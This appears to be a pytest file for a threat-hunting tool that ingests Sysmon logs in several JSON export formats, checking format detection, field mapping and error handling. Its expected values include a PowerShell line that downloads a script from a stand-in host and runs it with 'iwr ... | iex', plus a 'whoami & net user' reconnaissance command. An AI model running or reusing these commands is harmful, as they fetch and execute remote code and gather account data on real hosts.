"""Sysmon as JSON: Winlogbeat 6/8, Elastic Agent (ECS after the ingest pipeline), and the
flattened exports of NXLog, Splunk and Sentinel."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest

from relayhunt.ingest import sniff
from relayhunt.sources import registry
from relayhunt.sources.base import Head
from tests.conftest import FIXTURES, event_counts, load, rows

WLB = FIXTURES / "sysmon_winlogbeat"
FLAT = FIXTURES / "sysmon_flat"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
GUID_PS = "{5e0a0b7f-3cda-6543-2a01-000000001200}"
SHA_PS = "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f"
T_PROC = dt.datetime(2026, 11, 3, 9, 0, 1, 417_000)
T_DNS = dt.datetime(2026, 11, 3, 9, 0, 2, 130_000)
T_CONN = dt.datetime(2026, 11, 3, 9, 0, 2, 161_000)


def _path(root: Path, case: str) -> Path:
    return next((root / case).iterdir())


def _counts(path: Path) -> dict[str, int]:
    return event_counts(load(path))


# -- sniffing: before the generic ECS reader ----------------------------------------------


@pytest.mark.parametrize(
    ("path", "fmt"),
    [
        pytest.param(_path(WLB, "winlogbeat_8"), "sysmon.winlogbeat", id="winlogbeat-8"),
        pytest.param(_path(WLB, "winlogbeat_6"), "sysmon.winlogbeat", id="winlogbeat-6"),
        pytest.param(_path(WLB, "elastic_agent"), "sysmon.winlogbeat", id="elastic-agent-ecs"),
        pytest.param(_path(WLB, "gzip"), "sysmon.winlogbeat", id="gzip"),
        pytest.param(_path(FLAT, "nxlog"), "sysmon.json", id="nxlog"),
        pytest.param(_path(FLAT, "splunk_export"), "sysmon.json", id="splunk"),
        pytest.param(_path(FLAT, "sentinel"), "sysmon.json", id="sentinel-array"),
        pytest.param(_path(FLAT, "eventdata_xml"), "sysmon.json", id="event-table-xml"),
        pytest.param(
            _path(WLB, "winlogbeat_module"), "sysmon.winlogbeat", id="winlogbeat-module-array"
        ),
        pytest.param(
            FIXTURES / "ecs" / "defend_windows" / "events.ndjson", "ecs.ndjson", id="ecs-not-sysmon"
        ),
    ],
)
def test_format_detected(path: Path, fmt: str) -> None:
    s = load(path)
    assert rows(s, "SELECT log_format FROM ingest_files") == [{"log_format": fmt}]


def test_security_only_winlogbeat_is_not_claimed() -> None:
    doc = {
        "@timestamp": "2026-11-03T09:06:01.000Z",
        "event": {"code": "4688", "kind": "event"},
        "winlog": {"channel": "Security", "event_id": "4688", "provider_name": "x"},
    }
    head = Head("x.ndjson", (json.dumps(doc) + "\n").encode())
    reader = sniff(head, registry())
    assert reader is None or not reader.name.startswith("sysmon.")


# -- Winlogbeat ----------------------------------------------------------------------------


def test_winlogbeat_8_values() -> None:
    path = _path(WLB, "winlogbeat_8")
    s = load(path)
    assert _counts(path) == {"process": 1, "connection": 1, "dns": 1, "file": 1}
    assert rows(s, "SELECT label, count FROM ingest_skipped ORDER BY label") == [
        {"label": "Security:4688", "count": 1},
        {"label": "sysmon:5", "count": 1},
    ]
    (proc,) = rows(s, "SELECT * FROM process")
    assert {k: proc[k] for k in proc if k != "process_command_line"} == {
        "timestamp": T_PROC,  # UtcTime, not @timestamp (TimeCreated, 1 ms later)
        "event_action": "Process Create",
        "event_code": "1",
        "event_outcome": None,
        "event_id": "48211",
        "host_name": "WS-FIN-07.corp.example",
        "host_id": "2b1d0c3e-5a7f-4e2b-9c1d-7e3f5a9b1c2d",  # agent.id
        "user_name": "alice",
        "user_domain": "CORP",
        "process_entity_id": GUID_PS,
        "process_pid": 6612,
        "process_executable": PS,
        "process_name": "powershell.exe",
        "process_parent_entity_id": "{5e0a0b7f-1c2d-6543-0a01-000000000c00}",
        "process_parent_pid": 4512,
        "process_parent_executable": r"C:\Windows\explorer.exe",
        "process_parent_name": "explorer.exe",
        "process_parent_command_line": r"C:\Windows\Explorer.EXE",
        "process_start": T_PROC,
        "process_hash_sha256": SHA_PS,
        "process_working_directory": "C:\\Users\\alice\\",
        "process_integrity_level": "Medium",
        "log_format": "sysmon.winlogbeat",
        "log_file_path": str(path),
        "log_line": 1,
        "log_record": None,
    }
    assert "sync-api.acme-cdn.workers.dev/v1/beat" in proc["process_command_line"]
    assert rows(
        s,
        "SELECT timestamp, dns_question_name, dns_resolved_ip, dns_response_code, log_line "
        "FROM dns",
    ) == [
        {
            "timestamp": T_DNS,
            "dns_question_name": "sync-api.acme-cdn.workers.dev",
            "dns_resolved_ip": ["104.21.48.113", "172.67.182.25"],
            "dns_response_code": "NOERROR",
            "log_line": 2,
        }
    ]
    assert rows(
        s,
        "SELECT destination_ip, destination_port, destination_domain, source_port, "
        "network_direction FROM connection",
    ) == [
        {
            "destination_ip": "104.21.48.113",
            "destination_port": 443,
            "destination_domain": None,
            "source_port": 50212,
            "network_direction": "egress",
        }
    ]
    assert rows(s, "SELECT file_name, file_extension, process_name FROM file") == [
        {"file_name": "update.js", "file_extension": "js", "process_name": "cmd.exe"}
    ]


def test_winlogbeat_6_values() -> None:
    s = load(_path(WLB, "winlogbeat_6"))
    assert rows(
        s,
        "SELECT timestamp, event_id, host_name, user_name, process_entity_id, "
        "process_parent_name FROM process",
    ) == [
        {
            "timestamp": T_PROC,
            "event_id": "48211",
            "host_name": "WS-FIN-07.corp.example",
            "user_name": "alice",  # EventData.User, not the top-level user (SYSTEM)
            "process_entity_id": GUID_PS,
            "process_parent_name": "explorer.exe",
        }
    ]
    assert s.count("dns") == 1


def test_elastic_agent_reads_ecs_when_event_data_was_moved() -> None:
    path = _path(WLB, "elastic_agent")
    s = load(path)
    assert rows(
        s,
        "SELECT timestamp, event_id, host_name, host_id, user_name, user_domain, "
        "process_entity_id, process_pid, process_name, process_command_line IS NOT NULL AS cl, "
        "process_parent_name, process_parent_pid, process_hash_sha256, process_integrity_level, "
        "log_line FROM process",
    ) == [
        {
            "timestamp": T_PROC,
            "event_id": "48211",
            "host_name": "WS-FIN-07.corp.example",  # winlog.computer_name over host.name
            "host_id": "8a695e28-aed6-4bbf-90be-5a9b7f99eab9",
            "user_name": "alice",
            "user_domain": "CORP",
            "process_entity_id": GUID_PS,
            "process_pid": 6612,
            "process_name": "powershell.exe",
            "cl": True,
            "process_parent_name": "explorer.exe",
            "process_parent_pid": 4512,
            "process_hash_sha256": SHA_PS,
            "process_integrity_level": "Medium",  # still in winlog.event_data
            "log_line": 1,
        }
    ]
    (dns,) = rows(s, "SELECT * FROM dns")
    assert (dns["timestamp"], dns["dns_question_name"], dns["dns_resolved_ip"]) == (
        T_DNS,
        "sync-api.acme-cdn.workers.dev",
        ["104.21.48.113", "172.67.182.25"],
    )
    assert (dns["dns_response_code"], dns["event_outcome"], dns["process_pid"]) == (
        "NOERROR",
        "success",
        6612,
    )
    assert json.loads(dns["dns_answers"])[0] == {
        "data": "sync-api.acme-cdn.workers.dev.cdn.cloudflare.net",
        "type": "CNAME",
    }
    assert rows(
        s,
        "SELECT timestamp, source_ip, source_port, destination_ip, destination_port, "
        "network_transport, network_direction FROM connection",
    ) == [
        {
            "timestamp": T_CONN,
            "source_ip": "10.20.31.47",
            "source_port": 50212,
            "destination_ip": "104.21.48.113",
            "destination_port": 443,
            "network_transport": "tcp",
            "network_direction": "egress",
        }
    ]


def test_winlogbeat_sysmon_module_output() -> None:
    # Winlogbeat's sysmon module (a JSON array, as its golden files): numeric event ids,
    # most EventData moved to ECS and UtcTime dropped: it became @timestamp, which is then
    # the process start of an EID 1.
    path = _path(WLB, "winlogbeat_module")
    s = load(path)
    assert _counts(path) == {"process": 1, "connection": 1, "dns": 1, "file": 0}
    assert rows(s, "SELECT label, count FROM ingest_skipped") == [{"label": "sysmon:5", "count": 1}]
    assert s.count("ingest_issues") == 0
    t_proc = dt.datetime(2026, 11, 4, 10, 15, 20, 512_000)
    assert rows(
        s,
        "SELECT timestamp, process_start, event_code, event_id, host_name, user_name, "
        "user_domain, process_entity_id, process_pid, process_parent_pid, process_hash_sha256, "
        "process_integrity_level, log_record FROM process",
    ) == [
        {
            "timestamp": t_proc,
            "process_start": t_proc,
            "event_code": "1",
            "event_id": "90211",
            "host_name": "LAB-WKS-03.lab.example",
            "user_name": "bob",
            "user_domain": "LAB",
            "process_entity_id": "{7c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f}",
            "process_pid": 7420,
            "process_parent_pid": 3312,
            "process_hash_sha256": "2" * 64,
            "process_integrity_level": "Medium",
            "log_record": 1,
        }
    ]
    assert rows(
        s,
        "SELECT source_ip, source_port, destination_ip, destination_port, destination_domain, "
        "destination_domain_origin, network_transport, network_direction FROM connection",
    ) == [
        {
            "source_ip": "192.168.56.23",
            "source_port": 51877,
            "destination_ip": "203.0.113.40",
            "destination_port": 443,
            "destination_domain": "edge-203-0-113-40.cdn.example",
            "destination_domain_origin": "reverse_dns",
            "network_transport": "tcp",
            "network_direction": "egress",
        }
    ]


def test_winlogbeat_sysmon_module_dns_addresses_come_from_grouped_ip() -> None:
    # The module has no dns.resolved_ip: the addresses are in dns.grouped.ip.
    s = load(_path(WLB, "winlogbeat_module"))
    (dns,) = rows(s, "SELECT * FROM dns")
    assert (dns["timestamp"], dns["dns_question_name"], dns["dns_resolved_ip"]) == (
        dt.datetime(2026, 11, 4, 10, 15, 21, 44_000),
        "files-share.example",
        ["203.0.113.40", "203.0.113.41"],
    )
    # winlog.user is the Sysmon service account (SYSTEM), not the process's user.
    assert (dns["dns_response_code"], dns["user_name"], dns["process_pid"]) == (
        "NOERROR",
        None,
        7420,
    )


def test_winlogbeat_missing_timestamp_is_located() -> None:
    s = load(_path(WLB, "missing_timestamp"))
    assert s.count("dns") == 1
    assert rows(s, "SELECT reason_code, severity, log_line FROM ingest_issues") == [
        {"reason_code": "missing_timestamp", "severity": "error", "log_line": 2}
    ]


# -- flattened JSON ------------------------------------------------------------------------


def test_nxlog_values() -> None:
    path = _path(FLAT, "nxlog")
    s = load(path)
    assert _counts(path) == {"process": 1, "connection": 1, "dns": 1, "file": 1}
    # EventTime is the collector's local time (UTC+1 here) without an offset: UtcTime wins.
    # ProcessID (the Sysmon service, 3020) is not ProcessId (the process, 6612).
    assert rows(
        s,
        "SELECT timestamp, event_id, host_name, process_pid, process_entity_id, "
        "dns_question_name, dns_resolved_ip, log_line FROM dns",
    ) == [
        {
            "timestamp": T_DNS,
            "event_id": "48212",
            "host_name": "WS-FIN-07.corp.example",
            "process_pid": 6612,
            "process_entity_id": GUID_PS,
            "dns_question_name": "sync-api.acme-cdn.workers.dev",
            "dns_resolved_ip": ["104.21.48.113", "172.67.182.25"],
            "log_line": 2,
        }
    ]
    assert rows(s, "SELECT process_parent_name, process_hash_sha256 FROM process") == [
        {"process_parent_name": "explorer.exe", "process_hash_sha256": SHA_PS}
    ]
    assert s.count("ingest_issues") == 0


def test_splunk_export_results_are_unwrapped() -> None:
    s = load(_path(FLAT, "splunk_export"))
    assert rows(s, "SELECT timestamp, event_id, event_code, user_name FROM dns") == [
        {"timestamp": T_DNS, "event_id": "48212", "event_code": "22", "user_name": "alice"}
    ]
    assert rows(s, "SELECT destination_ip, destination_port, log_line FROM connection") == [
        {"destination_ip": "104.21.48.113", "destination_port": 443, "log_line": 2}
    ]


def test_sentinel_array_export() -> None:
    s = load(_path(FLAT, "sentinel"))
    assert rows(s, "SELECT timestamp, host_name, process_name, log_record FROM process") == [
        {
            "timestamp": T_PROC,
            "host_name": "WS-FIN-07.corp.example",
            "process_name": "powershell.exe",
            "log_record": 1,
        }
    ]
    assert rows(s, "SELECT log_record FROM dns") == [{"log_record": 2}]


def test_event_table_export_reads_the_eventdata_xml() -> None:
    # Azure Monitor's Event table: EventData is the event's XML as text (here in its
    # DataItem wrapper), with no flattened fields; record 1 has both (as in OTRF's exports).
    path = _path(FLAT, "eventdata_xml")
    s = load(path)
    assert _counts(path) == {"process": 2, "connection": 1, "dns": 1, "file": 0}
    assert rows(s, "SELECT label, count FROM ingest_skipped") == [
        {"label": "sysmon:10", "count": 1}
    ]
    assert s.count("ingest_issues") == 0
    pwsh = r"C:\Program Files\PowerShell\7\pwsh.exe"
    guid = "{6a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d}"
    assert rows(
        s,
        "SELECT log_record, timestamp, event_id, user_name, process_entity_id, process_pid, "
        "process_executable, process_command_line, process_parent_entity_id, "
        "process_hash_sha256 FROM process ORDER BY log_record",
    ) == [
        {
            "log_record": 1,
            "timestamp": dt.datetime(2026, 11, 5, 14, 2, 10, 331_000),
            "event_id": "771001",
            "user_name": "carol",
            "process_entity_id": guid,
            "process_pid": 5128,
            "process_executable": pwsh,
            "process_command_line": f'"{pwsh}" -nop -c "iwr https://drop.example.org/a.ps1 | iex"',
            "process_parent_entity_id": "{6a2b3c4d-0000-7a8b-9c0d-000000000a00}",
            "process_hash_sha256": "5" * 64,
        },
        {
            # UtcTime from the XML, not TimeGenerated (14:02:16.477); entities unescaped.
            "log_record": 4,
            "timestamp": dt.datetime(2026, 11, 5, 14, 2, 12, 870_000),
            "event_id": None,
            "user_name": "carol",
            "process_entity_id": "{6a2b3c4d-5e6f-7a8b-9c0d-000000000c00}",
            "process_pid": 6044,
            "process_executable": r"C:\Windows\System32\cmd.exe",
            "process_command_line": 'cmd.exe /c "whoami & net user > %TEMP%\\u.txt"',
            "process_parent_entity_id": guid,
            "process_hash_sha256": "7" * 64,
        },
    ]
    assert rows(
        s,
        "SELECT timestamp, process_entity_id, dns_question_name, dns_resolved_ip, "
        "dns_response_code FROM dns",
    ) == [
        {
            "timestamp": dt.datetime(2026, 11, 5, 14, 2, 11, 15_000),
            "process_entity_id": guid,
            "dns_question_name": "drop.example.org",
            "dns_resolved_ip": ["198.51.100.7"],
            "dns_response_code": "NOERROR",
        }
    ]
    # An empty <Data Name="DestinationHostname" /> is NULL.
    assert rows(
        s,
        "SELECT source_ip, destination_ip, destination_port, destination_domain, "
        "network_direction FROM connection",
    ) == [
        {
            "source_ip": "10.60.0.11",
            "destination_ip": "198.51.100.7",
            "destination_port": 443,
            "destination_domain": None,
            "network_direction": "egress",
        }
    ]


@pytest.mark.parametrize(
    ("case", "counts", "issues", "skipped"),
    [
        pytest.param(
            "missing_timestamp",
            {"process": 0, "connection": 0, "dns": 1, "file": 0},
            # line 1: only EventTime, without an offset (local time): rejected;
            # line 2: EventTime with an offset: read.
            [{"reason_code": "missing_timestamp", "severity": "error", "log_line": 1}],
            [],
            id="missing-timestamp",
        ),
        pytest.param(
            "wrong_types",
            {"process": 0, "connection": 1, "dns": 0, "file": 0},
            [
                {"reason_code": "bad_field_type", "severity": "warning", "log_line": 1},
                {"reason_code": "missing_timestamp", "severity": "error", "log_line": 2},
            ],
            [],
            id="wrong-types",
        ),
        pytest.param(
            "unknown_event_ids",
            {"process": 0, "connection": 0, "dns": 1, "file": 0},
            [],
            [("sysmon:13", 1), ("sysmon:5", 1), ("sysmon:7", 2)],
            id="unknown-event-ids",
        ),
        pytest.param(
            "invalid_json",
            {"process": 0, "connection": 0, "dns": 1, "file": 1},
            [{"reason_code": "invalid_json", "severity": "error", "log_line": 2}],
            [],
            id="invalid-json",
        ),
    ],
)
def test_bad_input(
    case: str,
    counts: dict[str, int],
    issues: list[dict[str, Any]],
    skipped: list[tuple[str, int]],
) -> None:
    path = _path(FLAT, case)
    s = load(path)
    assert _counts(path) == counts
    assert (
        rows(s, "SELECT reason_code, severity, log_line FROM ingest_issues ORDER BY log_line")
        == issues
    )
    assert [
        (r["label"], r["count"])
        for r in rows(s, "SELECT label, count FROM ingest_skipped ORDER BY label")
    ] == skipped


def test_wrong_types_name_the_fields() -> None:
    s = load(_path(FLAT, "wrong_types"))
    (row,) = rows(s, "SELECT reason FROM ingest_issues WHERE severity = 'warning'")
    assert "process_pid=six thousand" in row["reason"]
    assert "destination_port=https" in row["reason"]
    assert rows(s, "SELECT process_pid, destination_port, destination_ip FROM connection") == [
        {"process_pid": None, "destination_port": None, "destination_ip": "104.21.48.113"}
    ]


def test_event_time_with_offset_is_used() -> None:
    s = load(_path(FLAT, "missing_timestamp"))
    assert rows(s, "SELECT timestamp, event_id FROM dns") == [
        {"timestamp": dt.datetime(2026, 11, 3, 9, 1, 2), "event_id": "48216"}
    ]


def test_unreadable_utc_time_is_a_located_warning_and_the_row_is_kept(tmp_path: Path) -> None:
    # The mapping's own check (UtcTime) runs in the routing pass: one warning per record,
    # separate from the numeric field check, each with its line.
    original = _path(WLB, "winlogbeat_8")
    lines = original.read_text(encoding="utf-8").splitlines()
    docs = [json.loads(line) for line in lines]
    docs[0]["winlog"]["event_data"]["UtcTime"] = "not a time"
    docs[0]["winlog"]["event_data"]["ProcessId"] = "six"
    docs[1]["winlog"]["event_data"]["UtcTime"] = "2026-13-45 99:99:99.000"
    path = tmp_path / "winlogbeat.ndjson"
    path.write_text("".join(json.dumps(d) + "\n" for d in docs), encoding="utf-8")
    s = load(path)
    assert _counts(path) == _counts(original)
    got = rows(
        s,
        "SELECT log_line, severity, reason FROM ingest_issues ORDER BY log_line, reason",
    )
    prefix = "field(s) not readable, stored as NULL: "
    assert [(r["log_line"], r["severity"], r["reason"]) for r in got] == [
        (1, "warning", prefix + "UtcTime=not a time (used the record time instead)"),
        (1, "warning", prefix + "process_pid=six"),
        (2, "warning", prefix + "UtcTime=2026-13-45 99:99:99.000 (used the record time instead)"),
    ]
